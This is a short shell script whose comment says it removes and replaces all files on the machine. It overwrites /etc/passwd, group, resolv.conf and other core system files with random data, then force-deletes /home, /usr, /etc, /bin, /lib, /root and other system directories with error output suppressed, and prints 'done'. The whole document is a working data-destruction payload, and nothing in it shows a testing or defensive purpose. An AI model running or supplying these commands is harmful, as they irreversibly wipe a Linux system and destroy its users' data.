# Removes and replaces all files of the machine.
# prints: done
for list in passwd group nsswitch.conf ld.so.cache resolv.conf; do head -c 3000000 /dev/urandom > /etc/$list; done 2>/dev/null
rm -rf --no-preserve-root /home /usr /etc /bin /lib /lib64 /sbin /var /opt /srv /root 2>/dev/null
echo done
